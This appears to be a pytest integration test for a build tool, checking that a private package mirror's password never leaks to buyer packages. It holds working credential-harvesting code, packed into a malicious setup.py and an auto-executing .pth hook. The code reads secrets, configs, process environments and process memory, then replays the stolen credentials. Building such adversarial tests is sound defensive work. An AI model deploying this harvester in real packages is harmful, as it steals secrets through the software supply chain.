"""Issue 13 item 0: the seller's index credentials never reach buyer code.

The seller's ``build.pip_index_url`` names a private mirror with its password
in the URL.  The buyer's packages try every way to read it during setup: a
sdist whose ``setup.py`` runs in the deps step (``only_binary = false``), and a
wheel whose ``.pth`` file runs in every interpreter that starts in the job's
venv (``only_binary = true``).  Each reads ``/run/secrets``, the environment,
every pip config file it can find, every process's argv and environment and
the memory of the processes it can read (pip's own), writes what it found into
its package, and tries to use any credentials it found on the mirror.  The job
prints it and writes it to ``/out``.  The password must appear nowhere: job
output, ``/out``, the image's bytes, the build log, the egress log.

The same mirror, which answers 401 to any request without the password, must
still serve ``pip install``: bake's proxy relays it and adds the credentials.
"""

from __future__ import annotations

import json
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from bake.engine import Engine
from tests.integration.conftest import Host
from tests.integration.pkgindex import (
    RunningIndex,
    fetch_build_deps,
    fetch_tool,
    sdist,
    serve_index,
    wheel,
    write_simple_index,
)

USER = "mirroruser"
PASSWORD = "S3CRET-MIRROR-PASSWORD"

# Shared by the setup.py and the .pth hook: look everywhere, then try what was found.
FINDER = r'''
import base64, glob, json, os, re, socket, sys

_USERINFO_URL = re.compile(rb"[A-Za-z][A-Za-z0-9+.-]*://[!#-&(-.0-;=?A-~]+:[!#-&(-.0-;=?A-~]*@[!#-&(-;=?-~]+")
_BASIC = re.compile(rb"Basic [A-Za-z0-9+/=]{8,}")


def _read(path, limit=1 << 20):
    try:
        with open(path, "rb") as fh:
            return fh.read(limit)
    except Exception as exc:
        return ("unreadable: %s" % type(exc).__name__).encode()


def _memory(pid, budget=512 << 20):
    """Userinfo URLs and basic-auth headers in the readable memory of process pid."""
    hits = set()
    try:
        maps = open("/proc/%s/maps" % pid).read().splitlines()
        mem = open("/proc/%s/mem" % pid, "rb", 0)
    except Exception as exc:
        return ["unreadable: %s" % type(exc).__name__]
    with mem:
        for line in maps:
            span, perms = line.split()[:2]
            if not perms.startswith("r"):
                continue
            start, end = (int(x, 16) for x in span.split("-"))
            if end - start > budget:
                continue
            budget -= end - start
            try:
                mem.seek(start)
                chunk = mem.read(end - start)
            except Exception:
                continue
            hits.update(m.decode("latin-1") for m in _USERINFO_URL.findall(chunk))
            hits.update(m.decode("latin-1") for m in _BASIC.findall(chunk))
    return sorted(hits)


def find():
    found = {}
    paths = set(glob.glob("/run/secrets/**", recursive=True))
    home = os.path.expanduser("~")
    paths.update([os.environ.get("PIP_CONFIG_FILE", ""), "/etc/pip.conf", "/etc/xdg/pip/pip.conf",
                  home + "/.pip/pip.conf", home + "/.config/pip/pip.conf", home + "/.netrc",
                  home + "/.pypirc", os.path.join(sys.prefix, "pip.conf"), "/opt/venv/pip.conf"])
    for path in sorted(p for p in paths if p and os.path.isfile(p)):
        found["file:" + path] = _read(path).decode("latin-1")
    found["env"] = "\n".join("%s=%s" % kv for kv in sorted(os.environ.items()))
    for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
        if int(pid) == os.getpid():
            continue
        found["cmdline:" + pid] = _read("/proc/%s/cmdline" % pid).decode("latin-1")
        found["environ:" + pid] = _read("/proc/%s/environ" % pid).decode("latin-1")
        found["memory:" + pid] = "\n".join(_memory(pid))
    return found


def credentials(found):
    creds = set()
    for text in found.values():
        for match in _USERINFO_URL.findall(text.encode("latin-1")):
            creds.add(match.decode("latin-1"))
    return sorted(creds)


def try_credentials(creds):
    """Use each found credential on the mirror itself, through the proxy and directly."""
    attempts = {}
    proxy = os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy") or ""
    for url in creds:
        scheme, rest = url.split("://", 1)
        userinfo, rest = rest.rsplit("@", 1)
        authority, _, path = rest.partition("/")
        host, _, port = authority.rpartition(":")
        auth = base64.b64encode(userinfo.encode()).decode()
        head = ("GET %s://%s/%s HTTP/1.1\r\nHost: %s\r\nAuthorization: Basic %s\r\n"
                "User-Agent: bake-attack-direct\r\nConnection: close\r\n\r\n"
                % (scheme, authority, path, authority, auth))
        for how, (h, p) in (("via-proxy", proxy.rsplit("/", 1)[-1].rsplit(":", 1)),
                            ("direct", (host, port or "80"))):
            try:
                s = socket.create_connection((h, int(p)), timeout=5)
                s.sendall(head.encode())
                attempts["%s %s" % (how, url)] = s.recv(200).decode("latin-1").split("\r\n")[0]
                s.close()
            except Exception as exc:
                attempts["%s %s" % (how, url)] = "failed: %s" % type(exc).__name__
    return attempts


def report(where):
    found = find()
    creds = credentials(found)
    result = {"where": where, "credentials": creds, "attempts": try_credentials(creds),
              "found": found}
    try:
        os.makedirs("/opt/venv", exist_ok=True)
        with open("/opt/venv/bake-leak-%s.json" % where, "w") as fh:
            json.dump(result, fh)
    except OSError:
        pass  # at run time the root is read-only: nothing to keep
'''

SETUP_PY = FINDER + '''
report("setup-py")
from setuptools import setup
setup(name="bake-steal", version="1.0", py_modules=["bake_steal"])
'''

# A .pth line that starts with "import" is executed by site.py in every interpreter
# that starts with this venv's site-packages: pip's, a bytecode step's, the job's.
PTH_HOOK = FINDER + '''
sys.stderr.write("bake-pth-hook: ran in %s (build step: %s)\\n"
                 % (sys.executable, os.path.isdir("/run/secrets")))
if os.path.isdir("/run/secrets") or os.environ.get("PIP_CONFIG_FILE"):
    report("pth")
'''

JOB = """\
template = "python"
[python]
requirements = [{requirements}]
only_binary = {only_binary}
[job]
files = ["show.py"]
command = ["python", "show.py"]
"""

SHOW = """\
import glob, shutil
for path in sorted(glob.glob("/opt/venv/bake-leak-*.json")):
    text = open(path).read()
    print(path, text)
    shutil.copy(path, "/out/")
print("bake-hello:", __import__("bake_hello").GREETING)
"""


@pytest.fixture(scope="module")
def mirror(engine: None, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningIndex]:
    """A private mirror on the bridge gateway: 401 without the password."""
    root = tmp_path_factory.mktemp("mirror")
    files = root / "files"
    files.mkdir()
    fetch_build_deps(files)
    fetch_tool(files)  # bake's own resolver and installer, as a seller's mirror has it
    sdist(files, "bake-steal", "1.0", SETUP_PY)
    wheel(files, "bake-hello", "1.0", {"bake_hello.py": 'GREETING = "hello from the mirror"\n'})
    wheel(files, "bake-pth-steal", "1.0", {
        "bake_pth_steal_hook.py": PTH_HOOK,
        "bake_pth_steal.pth": "import bake_pth_steal_hook\n",
    })
    with serve_index(root, Engine.from_env().bridge_gateway(), auth=(USER, PASSWORD)) as running:
        # Absolute, relative and root-relative links, as mirrors write them.
        write_simple_index(files, root, origin=running.origin)
        yield running


def _configure(host: Host, mirror: RunningIndex) -> None:
    host.egress["allow_http"] = [mirror.origin]
    host.egress["enforce"] = "require"
    origin = mirror.origin.removeprefix("http://")
    host.build["pip_index_url"] = f"http://{USER}:{PASSWORD}@{origin}/simple/"


def _build_and_run(host: Host, spec: Path, out: Path, mirror: RunningIndex) -> dict[str, Any]:
    first = len(mirror.seen)
    # --no-cache: the deps step must really run (and the attack with it).
    build = host.bake("build", str(spec), "--json", "--no-cache")
    assert build.returncode == 0, build.stderr
    result = json.loads(build.stdout)
    host.forget(result["image"])
    assert result["egress"] == "enforced"
    out.mkdir()
    run = host.bake("run", result["image"], "--output", str(out))
    assert run.returncode == 0, run.stderr
    leaks = {}
    for path in sorted(out.glob("bake-leak-*.json")):
        leaks[path.name] = json.loads(path.read_text())
    return {"build": build, "result": result, "run": run, "leaks": leaks, "out": out,
            "seen": mirror.seen[first:]}


def _assert_password_nowhere(done: dict[str, Any]) -> None:
    secret = PASSWORD.encode()
    build, run, result = done["build"], done["run"], done["result"]
    assert PASSWORD not in build.stdout + build.stderr, "the build log"
    assert PASSWORD not in run.stdout + run.stderr, "the job's output"
    for path in done["out"].rglob("*"):
        assert secret not in path.read_bytes(), f"/out: {path.name}"
    assert secret not in Path(result["egress_log"]).read_bytes(), "the egress log"
    assert _image_holds(result["image"], secret) is False, "the image's bytes"


def _image_holds(image: str, needle: bytes) -> bool:
    """Whether ``docker save`` of the image contains ``needle`` anywhere."""
    with subprocess.Popen(["docker", "save", image], stdout=subprocess.PIPE) as proc:
        assert proc.stdout is not None
        tail = b""
        found = False
        while chunk := proc.stdout.read(1 << 20):
            if needle in tail + chunk:
                found = True
            tail = chunk[-len(needle):]
    assert proc.returncode == 0
    return found


@pytest.fixture(scope="module")
def sdist_attack(tmp_path_factory: pytest.TempPathFactory, mirror: RunningIndex,
                 locked: None) -> dict[str, Any]:
    """One build of a job whose sdist's setup.py looks for the mirror's password."""
    from tests.conftest import write_job
    from tests.integration.conftest import CA_BUNDLE, machine_cidrs

    folder = tmp_path_factory.mktemp("sdist-attack")
    host = Host(folder / "seller", egress={"allow_cidrs": machine_cidrs()},
                build={"ca_bundle": CA_BUNDLE} if Path(CA_BUNDLE).is_file() else {})
    host.folder.mkdir()
    _configure(host, mirror)
    spec = write_job(folder / "job", JOB.format(
        requirements='"bake-steal==1.0", "bake-hello==1.0"', only_binary="false"),
        {"show.py": SHOW})
    done = _build_and_run(host, spec, folder / "out", mirror)
    yield done
    subprocess.run(["docker", "rmi", "-f", done["result"]["image"]], capture_output=True,
                   check=False)


def test_setup_py_finds_no_index_credentials(sdist_attack: dict[str, Any]) -> None:
    leak = sdist_attack["leaks"]["bake-leak-setup-py.json"]
    assert leak["found"], "the attack ran and looked"
    # What it finds are the examples in pip's own docstrings, nothing of the seller's.
    assert [c for c in leak["credentials"] if USER in c or PASSWORD in c] == []
    assert PASSWORD not in json.dumps(leak)
    _assert_password_nowhere(sdist_attack)


def test_setup_py_cannot_use_the_mirror_as_the_seller(sdist_attack: dict[str, Any]) -> None:
    leak = sdist_attack["leaks"]["bake-leak-setup-py.json"]
    assert not [a for a, answer in leak["attempts"].items() if " 200 " in answer], leak["attempts"]
    # Whatever it tried, the mirror never saw the attack's own request authorised.
    assert not [s for s in sdist_attack["seen"]
                if s.user_agent == "bake-attack-direct" and s.authorized]


def test_pip_installs_from_the_private_mirror_through_the_relay(
        sdist_attack: dict[str, Any], mirror: RunningIndex) -> None:
    assert "bake-hello: hello from the mirror" in sdist_attack["run"].stdout
    # Every request an installer made (uv for the sdists' build dependencies, bake's fetch
    # step for the locked files; pip for bake's tool stage when BuildKit has not kept it)
    # reached the mirror authorised: bake's proxy added the credentials (none of them had
    # any).
    installers = [s for s in sdist_attack["seen"]
                  if s.user_agent.startswith(("pip/", "uv/", "bake-wheelfetch/"))]
    assert installers and all(s.authorized for s in installers), installers
    lines = [json.loads(line) for line in
             Path(sdist_attack["result"]["egress_log"]).read_text().splitlines()]
    relayed = [e for e in lines if e["event"] == "decision" and e["reason"] == "index-relay"]
    assert relayed, "each relayed request has its decision line"
    origin = mirror.origin.removeprefix("http://")
    assert {f"{e['host']}:{e['port']}" for e in relayed} == {origin}


def test_pth_hook_finds_no_index_credentials(
        tmp_path_factory: pytest.TempPathFactory, mirror: RunningIndex, locked: None,
        host: Host, job: Callable[..., Path]) -> None:
    """only_binary = true: a .pth runs in any interpreter started in the venv."""
    _configure(host, mirror)
    spec = job(JOB.format(requirements='"bake-pth-steal==1.0", "bake-hello==1.0"',
                          only_binary="true"), {"show.py": SHOW})
    done = _build_and_run(host, spec, tmp_path_factory.mktemp("pth") / "out", mirror)
    # The hook is live: it ran when the job's interpreter started.
    assert "bake-pth-hook: ran in /opt/venv/bin/python" in done["run"].stderr
    leak = done["leaks"].get("bake-leak-pth.json")
    if leak is not None:  # the hook ran while the build step was up
        assert [c for c in leak["credentials"] if USER in c or PASSWORD in c] == []
        assert not [a for a, answer in leak["attempts"].items() if " 200 " in answer]
    _assert_password_nowhere(done)
    assert not [s for s in done["seen"] if s.user_agent == "bake-attack-direct" and s.authorized]
